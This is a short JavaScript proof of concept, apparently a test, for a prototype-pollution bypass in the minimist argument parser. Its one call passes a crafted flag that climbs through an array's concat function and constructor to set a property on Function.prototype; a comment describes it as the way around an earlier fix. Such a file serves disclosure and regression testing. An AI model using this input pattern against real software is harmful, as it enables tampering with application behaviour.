'use strict';
const parse = require('minimist');

// The way around the first fix: a constructor on the way to the prototype.
parse(['--_.concat.constructor.prototype.shown', 'yes']);
